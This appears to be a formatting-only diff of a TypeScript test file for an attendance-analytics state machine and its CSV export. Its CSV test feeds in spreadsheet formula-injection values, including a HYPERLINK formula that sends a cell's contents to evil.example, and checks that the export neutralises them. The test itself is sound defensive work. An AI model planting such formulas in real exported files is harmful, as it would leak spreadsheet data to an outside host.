@@ -34,16 +34,48 @@ const figures: CompanyAttendanceAnalytics = {
   courses: [{ id: 12, title: 'SQL for analysts' }],
   sessionChoices: [{ id: 41, courseId: 12, courseTitle: 'SQL for analysts', startDate: '2026-10-05' }],
   sessions: [
-    { sessionId: 41, courseId: 12, courseTitle: 'SQL for analysts', startDate: '2026-10-05', endDate: '2026-12-13', timezone: 'America/New_York', learners: 2, meetingsHeld: 3, attended: 5, expected: 6, rate: 0.8333 },
+    {
+      sessionId: 41,
+      courseId: 12,
+      courseTitle: 'SQL for analysts',
+      startDate: '2026-10-05',
+      endDate: '2026-12-13',
+      timezone: 'America/New_York',
+      learners: 2,
+      meetingsHeld: 3,
+      attended: 5,
+      expected: 6,
+      rate: 0.8333,
+    },
   ],
   learners: [
-    { learner: { id: 21, name: 'عائشة السليطي', pictureUrl: null }, email: 'aisha@qad.test', sessions: 1, attended: 3, held: 3, rate: 1 },
-    { learner: { id: 22, name: 'Khalid "KM" Al-Marri, Jr.', pictureUrl: null }, email: 'khalid@qad.test', sessions: 1, attended: 2, held: 3, rate: 0.6667 },
+    {
+      learner: { id: 21, name: 'عائشة السليطي', pictureUrl: null },
+      email: 'aisha@qad.test',
+      sessions: 1,
+      attended: 3,
+      held: 3,
+      rate: 1,
+    },
+    {
+      learner: { id: 22, name: 'Khalid "KM" Al-Marri, Jr.', pictureUrl: null },
+      email: 'khalid@qad.test',
+      sessions: 1,
+      attended: 2,
+      held: 3,
+      rate: 0.6667,
+    },
   ],
   weeks: [{ weekStart: '2026-10-05', attended: 5, expected: 6, rate: 0.8333 }],
   totals: { learners: 2, sessions: 1, meetingsHeld: 3, attended: 5, expected: 6, rate: 0.8333 },
 };
-const nothing: CompanyAttendanceAnalytics = { ...figures, sessions: [], learners: [], weeks: [], totals: { learners: 0, sessions: 0, meetingsHeld: 0, attended: 0, expected: 0, rate: 0 } };
+const nothing: CompanyAttendanceAnalytics = {
+  ...figures,
+  sessions: [],
+  learners: [],
+  weeks: [],
+  totals: { learners: 0, sessions: 0, meetingsHeld: 0, attended: 0, expected: 0, rate: 0 },
+};
 const grid: SessionAttendance = { sessionId: 41, meetings: [], learners: [] };
 
 const events: AnyEventObject[] = [
@@ -62,7 +94,17 @@ const events: AnyEventObject[] = [
 /** States differ by their value and what the page shows; the figures' content is one of two. */
 const serializeState = (s: AnyMachineSnapshot) => {
   const c = s.context as AttendanceAnalyticsContext;
-  return JSON.stringify({ v: s.value, f: c.filters, d: c.data?.sessions.length ?? null, e: !!c.error, fe: c.filterError, x: !!c.exportError, g: c.gridSessionId, ge: !!c.gridError, gd: !!c.grid });
+  return JSON.stringify({
+    v: s.value,
+    f: c.filters,
+    d: c.data?.sessions.length ?? null,
+    e: !!c.error,
+    fe: c.filterError,
+    x: !!c.exportError,
+    g: c.gridSessionId,
+    ge: !!c.gridError,
+    gd: !!c.grid,
+  });
 };
 
 function checkState(s: AnyMachineSnapshot) {
@@ -83,11 +125,13 @@ function checkState(s: AnyMachineSnapshot) {
   expect(datesInOrder(c.filters)).toBe(true);
   if (s.matches({ figures: 'ready' })) expect(c.data?.sessions.length).toBeGreaterThan(0);
   if (s.matches({ figures: 'empty' })) expect(c.data?.sessions).toEqual([]);
-  if (s.matches({ figures: 'failed' })) expect(c.error).toEqual({ code: 'analytics.failed', status: 500, message: 'Boom' });
+  if (s.matches({ figures: 'failed' }))
+    expect(c.error).toEqual({ code: 'analytics.failed', status: 500, message: 'Boom' });
   if (s.matches({ grid: 'closed' })) expect([c.gridSessionId, c.grid, c.gridError]).toEqual([null, null, null]);
   else expect(c.gridSessionId).toBe(41);
   if (s.matches({ grid: 'shown' })) expect(c.grid).toEqual(grid);
-  if (s.matches({ grid: 'failed' })) expect(c.gridError).toEqual({ code: 'grid.failed', status: 403, message: 'Not yours' });
+  if (s.matches({ grid: 'failed' }))
+    expect(c.gridError).toEqual({ code: 'grid.failed', status: 403, message: 'Not yours' });
 }
 
 const all = allTransitions(attendanceAnalyticsMachine);
@@ -102,16 +146,21 @@ function runPath(path: ModelPath) {
   const machine = attendanceAnalyticsMachine.provide({ actors: actors as any });
   // starts[0] is the load at start (its input is checked by the first test); later ones follow events.
   let seen = 1;
-  const result = replay(machine, path, (a, e, where) => expect(a, where).toEqual(e), (snap) => {
-    checkState(snap);
-    const c = snap.context as AttendanceAnalyticsContext;
-    for (const [name, got] of starts.slice(seen)) {
-      if (name === 'loadAnalytics') expect(got).toEqual({ companyId: 3, filters: c.filters });
-      if (name === 'exportCsv') expect(got).toEqual({ data: figures });
-      if (name === 'loadGrid') expect(got).toEqual({ sessionId: 41 });
-    }
-    seen = starts.length;
-  });
+  const result = replay(
+    machine,
+    path,
+    (a, e, where) => expect(a, where).toEqual(e),
+    (snap) => {
+      checkState(snap);
+      const c = snap.context as AttendanceAnalyticsContext;
+      for (const [name, got] of starts.slice(seen)) {
+        if (name === 'loadAnalytics') expect(got).toEqual({ companyId: 3, filters: c.filters });
+        if (name === 'exportCsv') expect(got).toEqual({ data: figures });
+        if (name === 'loadGrid') expect(got).toEqual({ sessionId: 41 });
+      }
+      seen = starts.length;
+    },
+  );
   result.fired.forEach((k) => fired.add(k));
 }
 
@@ -125,10 +174,9 @@ describe('attendance-analytics.machine (model-based)', () => {
     actor.stop();
   });
 
-  it.each(paths.map((p, i) => [i, p.events.map((e) => e.type.replace('xstate.', '')).join(' → ') || '(initial)', p] as const))(
-    'path %i: %s',
-    (_i, _label, path) => runPath(path),
-  );
+  it.each(
+    paths.map((p, i) => [i, p.events.map((e) => e.type.replace('xstate.', '')).join(' → ') || '(initial)', p] as const),
+  )('path %i: %s', (_i, _label, path) => runPath(path));
 
   it('covers every transition of the machine', () => {
     const report = coverageReport('attendance-analytics.machine', all, fired);
@@ -141,11 +189,15 @@ describe('attendance-analytics.machine (real actors)', () => {
     const calls: unknown[] = [];
     const machine = attendanceAnalyticsMachine.provide({
       actors: {
-        loadAnalytics: fromPromise<CompanyAttendanceAnalytics, { companyId: number; filters: object }>(async ({ input: i }) => {
-          calls.push(i.filters);
-          return figures;
-        }),
-        exportCsv: fromPromise<{ rows: number }, { data: CompanyAttendanceAnalytics }>(async ({ input: i }) => ({ rows: i.data.learners.length + i.data.sessions.length })),
+        loadAnalytics: fromPromise<CompanyAttendanceAnalytics, { companyId: number; filters: object }>(
+          async ({ input: i }) => {
+            calls.push(i.filters);
+            return figures;
+          },
+        ),
+        exportCsv: fromPromise<{ rows: number }, { data: CompanyAttendanceAnalytics }>(async ({ input: i }) => ({
+          rows: i.data.learners.length + i.data.sessions.length,
+        })),
         loadGrid: fromPromise<SessionAttendance, { sessionId: number }>(async () => grid),
       },
     });
@@ -169,8 +221,18 @@ describe('attendance-analytics.machine (real actors)', () => {
 
 describe('buildAttendanceCsv', () => {
   const labels = {
-    kind: 'Type', name: 'Name', email: 'E-mail', course: 'Course', startDate: 'Start date', learners: 'Learners', held: 'Meetings held',
-    attended: 'Attended', expected: 'Expected', rate: 'Rate (%)', sessionRow: 'Session', learnerRow: 'Learner',
+    kind: 'Type',
+    name: 'Name',
+    email: 'E-mail',
+    course: 'Course',
+    startDate: 'Start date',
+    learners: 'Learners',
+    held: 'Meetings held',
+    attended: 'Attended',
+    expected: 'Expected',
+    rate: 'Rate (%)',
+    sessionRow: 'Session',
+    learnerRow: 'Learner',
   };
 
   it('writes a UTF-8 CSV with BOM, quoted by papaparse, one row per session and per learner', () => {
@@ -197,8 +259,11 @@ describe('buildAttendanceCsv', () => {
     };
     const lines = buildAttendanceCsv(data, labels).text.slice(1).split('\r\n');
     expect(lines[1]).toBe(`Session,"'+SUM(1,2)",,"'+SUM(1,2)",2026-10-05,2,3,5,6,83`);
-    expect(lines[2]).toBe(`Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,3,100`);
+    expect(lines[2]).toBe(
+      `Learner,"'=HYPERLINK(""https://evil.example/?d=""&C3,""Open"")",'@evil.example,,,,3,3,3,100`,
+    );
     // No cell of the file starts with a formula character.
-    for (const line of lines) for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+    for (const line of lines)
+      for (const cell of line.split(',')) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
